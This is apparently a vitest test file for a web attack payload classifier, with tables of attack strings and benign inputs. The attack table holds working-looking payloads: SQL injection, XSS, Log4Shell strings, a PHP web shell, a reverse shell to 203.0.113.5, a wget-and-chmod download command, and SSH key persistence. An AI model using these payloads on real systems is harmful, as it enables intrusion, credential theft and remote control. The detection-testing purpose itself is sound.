import { gzipSync } from 'node:zlib';
import type { AttackType, EvidencePlace } from '@aegis/model';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { classifyPayload } from './classify-payload.ts';

type Row = readonly [text: string, type: AttackType, indicator: string, place?: EvidencePlace, part?: string];

/** Keeps the payloads below from looking like template strings. */
const DOLLAR = '$';

const ATTACKS: readonly Row[] = [
  ["1' UNION SELECT user,password FROM users-- -", 'sql_injection', 'union_based_sqli'],
  ['1/**/union/*x*/all/**/select/**/null,null', 'sql_injection', 'union_based_sqli'],
  ['-1 /*!50000union*/ select 1,2,3', 'sql_injection', 'union_based_sqli'],
  ["' or 1=1 --", 'sql_injection', 'boolean_based_sqli'],
  ['1 and 1=1', 'sql_injection', 'boolean_based_sqli'],
  ["x' or 'a'='a", 'sql_injection', 'boolean_based_sqli'],
  ["admin'-- ", 'sql_injection', 'comment_truncation_sqli'],
  ['1; drop table users', 'sql_injection', 'stacked_query'],
  ["'; exec master..xp_cmdshell 'whoami'", 'sql_injection', 'sql_command_execution'],
  ["1'; waitfor delay '0:0:5'--", 'sql_injection', 'time_based_blind'],
  ['1 and sleep(5)', 'sql_injection', 'time_based_blind'],
  ["1' and extractvalue(1,concat(0x5c,(select user())))-- -", 'sql_injection', 'error_based_sqli'],
  ['1 order by 10--', 'sql_injection', 'column_count_probe'],
  ['<script>alert(1)</script>', 'cross_site_scripting', 'reflected_script'],
  ['"><img src=x onerror=alert(1)>', 'cross_site_scripting', 'event_handler'],
  ['<svg/onload=alert`1`>', 'cross_site_scripting', 'event_handler'],
  ['<a href="java\tscript:alert(1)">x</a>', 'cross_site_scripting', 'script_url'],
  ['" onfocus=alert(1) autofocus x="', 'cross_site_scripting', 'event_handler'],
  ["';alert(document.cookie)//", 'cross_site_scripting', 'javascript_injection'],
  ['; cat /etc/passwd', 'command_execution', 'file_read_command'],
  ['127.0.0.1|id', 'command_execution', 'command_separator'],
  ['$(whoami)', 'command_execution', 'command_substitution'],
  ['x`id`', 'command_execution', 'command_substitution'],
  ['() { :;}; /bin/bash -c id', 'command_execution', 'shellshock', 'header', 'user-agent'],
  ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'command_execution', 'reverse_shell'],
  ['<!--#exec cmd="ls" -->', 'command_execution', 'server_side_include'],
  ['../../../../etc/passwd', 'local_file_inclusion', 'directory_traversal'],
  ['..%252f..%252fetc/passwd', 'local_file_inclusion', 'disguised_traversal'],
  ['....//....//x', 'path_traversal', 'disguised_traversal'],
  ['php://filter/convert.base64-encode/resource=index', 'local_file_inclusion', 'stream_wrapper'],
  ['/etc/shadow', 'local_file_inclusion', 'credential_file'],
  ['C:\\boot.ini', 'local_file_inclusion', 'system_file'],
  ['http://203.0.113.5/shell.txt?', 'remote_file_inclusion', 'remote_file_inclusion', 'query', 'page'],
  ['<?php system($_GET["c"]); ?>', 'php_code_injection', 'web_shell'],
  ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'php_object_injection', 'php_serialized_object'],
  ['{{7*7}}', 'template_injection', 'template_probe'],
  ["{{''.__class__.__mro__}}", 'template_injection', 'template_code'],
  [`${DOLLAR}{T(java.lang.Runtime).getRuntime().exec("id")}`, 'template_injection', 'template_code'],
  [`${DOLLAR}{jndi:ldap://203.0.113.5/a}`, 'template_injection', 'log4shell_jndi', 'header', 'user-agent'],
  [
    `${DOLLAR}{${DOLLAR}{lower:j}${DOLLAR}{::-n}di:${DOLLAR}{env:X:-l}dap://x/a}`,
    'template_injection',
    'log4shell_jndi',
    'header',
    'x',
  ],
  [
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
    'xxe_injection',
    'external_entity',
    'body',
  ],
  ['x%0d%0aSet-Cookie:%20a=b', 'crlf_injection', 'header_injection'],
  ['1', 'nosql_injection', 'operator_injection', 'query', 'user[$ne]'],
  ["' || this.password.match(/.*/)//", 'nosql_injection', 'javascript_query'],
  ['*)(uid=*))(|(uid=*', 'ldap_injection', 'ldap_filter'],
  ['http://169.254.169.254/latest/meta-data/', 'ssrf', 'metadata_ssrf', 'query', 'url'],
  ['gopher://127.0.0.1:6379/_x', 'ssrf', 'inner_scheme_ssrf', 'query', 'url'],
  ['/\\evil.example', 'open_redirect', 'open_redirect', 'query', 'next'],
  ['https://bank.example@evil.example/', 'open_redirect', 'open_redirect', 'query', 'url'],
  ['/.git/config', 'vulnerability_probe', 'repository_probe', 'path'],
  ['/app/.env', 'vulnerability_probe', 'secret_file_probe', 'path'],
  [
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    'vulnerability_probe',
    'known_vulnerability_probe',
    'path',
  ],
  ['/actuator/env', 'vulnerability_probe', 'management_probe', 'path'],
  ['/boaform/admin/formLogin', 'vulnerability_probe', 'device_probe', 'path'],
  ['/index.php.bak', 'vulnerability_probe', 'backup_probe', 'path'],
  ['/site-2024-05.tar.gz', 'vulnerability_probe', 'backup_probe', 'path'],
  ['/.terraform/state', 'vulnerability_probe', 'hidden_file_probe', 'path'],
  ['/metrics', 'vulnerability_probe', 'management_probe', 'path'],
  [
    '<methodCall><methodName>system.multicall</methodName></methodCall>',
    'vulnerability_probe',
    'wordpress_probe',
    'body',
  ],
  ['{"query":"{__schema{types{name}}}"}', 'vulnerability_probe', 'graphql_introspection', 'body'],
  ['%08x.%08x.%08x.%08x.%n', 'protocol_attack', 'format_string'],
  ['%n.%n', 'protocol_attack', 'format_string'],
  ["=cmd|' /C calc'!A0", 'command_execution', 'formula_injection'],
  ['=HYPERLINK("http://203.0.113.5/?"&A1,"x")', 'protocol_attack', 'formula_injection', 'body'],
  [
    `Bearer ${Buffer.from('{"alg":"None"}').toString('base64url')}.${Buffer.from('{"sub":"root"}').toString('base64url')}.`,
    'protocol_attack',
    'jwt_none_algorithm',
    'header',
    'authorization',
  ],
  ['bank.example@evil.example', 'protocol_attack', 'host_header_injection', 'header', 'host'],
  ['169.254.169.254', 'protocol_attack', 'host_header_ssrf', 'header', 'host'],
  ['/admin', 'protocol_attack', 'path_override', 'header', 'x-original-url'],
  ['xchunked', 'protocol_attack', 'request_smuggling', 'header', 'transfer-encoding'],
  ['x', 'php_object_injection', 'class_loader_access', 'query', 'class.module.classLoader.x'],
  ['http://a1b2.oastify.com/', 'ssrf', 'out_of_band_host', 'header', 'referer'],
  ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'cross_site_scripting', 'reflected_script'],
  [gzipSync('<?php system($_GET[1]); ?>').toString('base64'), 'php_code_injection', 'web_shell', 'body'],
  ['%16%03%01%02', 'protocol_attack', 'tls_on_plain_port', 'path'],
  ["lv|'|'|VHJv", 'protocol_attack', 'foreign_protocol', 'path'],
  ['/up/My_Shell.php', 'vulnerability_probe', 'web_shell_probe', 'path'],
  ['shell.php.jpg', 'file_upload', 'double_extension', 'body', 'filename'],
  [
    'cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh',
    'malware_download',
    'execute_dropped_file',
    'command',
  ],
  ['echo key >> ~/.ssh/authorized_keys', 'command_execution', 'persistence', 'command'],
  ['hello', 'command_execution', 'interactive_command', 'command'],
];

const NAMED = ATTACKS.map(([text, type, indicator, place = 'query', part = 'q']) => ({
  text,
  type,
  indicator,
  place,
  part,
}));

test.each(NAMED)('$text is $type ($indicator)', ({ text, type, indicator, place, part }) => {
  const findings = classifyPayload(text, { place, part });
  const finding = findings.find((candidate) => candidate.attackType === type);
  expect(finding?.indicators).toContain(indicator);
  expect(finding?.evidence.why).not.toBe('');
  expect(finding?.techniques.every((id) => /^T\d{4}(?:\.\d{3})?$/.test(id))).toBe(true);
});

const ORDINARY: readonly string[] = [
  "O'Brien",
  "D'Arcy & Sons",
  "'90s and '80s music",
  "rock 'n' roll",
  'select a plan from the list',
  'Select * your seats',
  'select name, size from the options below',
  'The union select committee',
  'drop table lamp',
  'order by phone',
  'insert coin',
  'create table of contents',
  'delete from cart',
  'sleep 8 hours',
  'how to use sleep() in python',
  'how do I use alert() in JavaScript',
  'window.location explained',
  'what is /etc/passwd used for',
  'edit your .htaccess file',
  '7 and a half',
  '2 or 3 bedrooms',
  'price > 100 and price < 200',
  '5\' 10" tall',
  "SOAP 1 '#",
  '"LIKE" STAMP',
  'fish | chips',
  'R&D; design',
  'Tom; Dick; Harry',
  '| id | name | price |\n|----|------|-------|\n| 1 | cat | 3 |',
  'Use `cat file.txt` to read',
  '# Heading\n\nSome **bold** text with `ls`',
  'Dear Sir,\r\nSubject: my order\r\nTo: Bob',
  '<b>bold</b> <p>and</p> <a href="https://example.org">link</a>',
  '<img src="https://example.org/a.png" alt="x">',
  'a < b',
  'Bob <bob@example.org>',
  'data:image/png;base64,iVBORw0KGgo=',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abc',
  '{"name":"Ann","age":3}',
  'Hello {{ user.first_name }}',
  `${DOLLAR}{price}`,
  '../images/logo.png',
  'v1.2..v1.3',
  'wait... what',
  '/account/settings',
  'https://example.org/login?next=/home',
  'ftp://example.org/pub/file.zip',
  '$19.99',
  'C++ & C#',
  'f(x) = x^2',
  '(uid=5)',
  '50 * 3',
  'git clone https://github.com/a/b.git',
  "it's 5 o'clock -- somewhere",
  "C'est l'été; l'hiver",
  '日本語 😀 éè',
];

test.each(ORDINARY)('%s is ordinary', (text) => {
  for (const place of ['query', 'body', 'cookie'] as const)
    expect(classifyPayload(text, { place, part: 'q' })).toEqual([]);
});

test.each([
  ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  [
    'user-agent',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  ],
  ['sec-ch-ua', '"Chromium";v="120", "Not?A_Brand";v="24"'],
  ['if-none-match', 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"'],
  ['referer', 'https://example.org/search?q=it%27s+me&sort=price'],
  ['authorization', 'Basic YW5uOm9wZW4gc2VzYW1lISE='],
])('the header %s: %s is ordinary', (part, text) => {
  expect(classifyPayload(text, { place: 'header', part })).toEqual([]);
});

test.each([
  '/',
  '/index.php',
  '/blog/how-to-drop-table-in-sql',
  '/images/../logo.png',
  '/wp-content/uploads/2024/01/a.jpg',
])('the path %s is ordinary', (text) => {
  expect(classifyPayload(text, { place: 'path', part: '' })).toEqual([]);
});

test('evidence shows what was sent, what it became and how', () => {
  const [finding] = classifyPayload('%2527%2520UNION%2520SELECT%25201--', { place: 'query', part: 'id' });
  expect(finding?.evidence).toMatchObject({
    place: 'query',
    part: 'id',
    text: '%2527%2520UNION%2520SELECT%25201--',
    decoded: "' UNION SELECT 1--",
    layers: ['url', 'url'],
  });
});

test('the gravest comes first', () => {
  const findings = classifyPayload('<script>alert(1)</script>;cat /etc/passwd');
  expect(findings[0]?.attackType).toBe('command_execution');
  expect(findings.map((finding) => finding.attackType)).toContain('cross_site_scripting');
});

test('an attack at the end of a long text is seen', () => {
  expect(classifyPayload(`${'a '.repeat(100_000)}<script>alert(1)</script>`)[0]?.attackType).toBe(
    'cross_site_scripting',
  );
});

const PLACES = ['path', 'query', 'body', 'header', 'cookie', 'command', 'login'] as const;

test('never throws and stays within its bounds whatever is sent', () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS.map(([text]) => text), ...ORDINARY),
    fc.string({ unit: 'binary', maxLength: 30 }),
  );
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 5 }),
      fc.constantFrom(...PLACES),
      fc.string({ maxLength: 20 }),
      (pieces, place, part) => {
        const findings = classifyPayload(pieces.join(''), { place, part });
        expect(new Set(findings.map((finding) => finding.attackType)).size).toBe(findings.length);
        for (const { danger, confidence, evidence } of findings) {
          expect(danger).toBeGreaterThanOrEqual(0);
          expect(danger).toBeLessThanOrEqual(100);
          expect(confidence).toBeGreaterThanOrEqual(50);
          expect(confidence).toBeLessThanOrEqual(100);
          expect(evidence.text.length).toBeLessThanOrEqual(300);
          expect(evidence.decoded?.length ?? 0).toBeLessThanOrEqual(300);
        }
      },
    ),
    { seed: 20260103, numRuns: 150 },
  );
});

test('prototype keys are names like any other', () => {
  for (const part of ['__proto__', 'constructor', 'toString'])
    expect(classifyPayload('1', { place: 'query', part })).toEqual([]);
});

/** A site's own pages, files and interfaces. */
test.each([
  '/about',
  '*',
  'example.org:443',
  'index.html',
  '/products/shoes.html',
  '/static/app.3f2a.js',
  '/api/v1/users/42',
  '/.well-known/acme-challenge/abc',
  '/favicon.ico',
  '/robots.txt',
  '/downloads/report-2024.pdf',
  '/files/archive.zip',
  '/search/1.5',
  '/login',
  '/graphql',
  '/users/sign_in',
  '/package.json',
  '/blog/metrics-that-matter',
  '/products/information',
])('the path %s belongs to a site', (text) => {
  expect(classifyPayload(text, { place: 'path', part: '' })).toEqual([]);
});

test.each([
  ['host', 'www.example.org'],
  ['host', 'localhost:8080'],
  ['host', '[2001:db8::1]:443'],
  ['x-forwarded-host', 'shop.example.org'],
  ['transfer-encoding', 'chunked'],
  ['x-forwarded-for', '203.0.113.9, 10.0.0.1'],
  ['content-type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk'],
  ['cookie', 'session=eyJhIjoxfQ; theme=dark'],
])('the header %s: %s says nothing', (part, text) => {
  expect(classifyPayload(text, { place: 'header', part })).toEqual([]);
});

test('a gzip bomb is cut', () => {
  const bomb = gzipSync(Buffer.alloc(50_000_000, 'a ')).toString('base64');
  expect(classifyPayload(bomb).length).toBeLessThan(20);
});
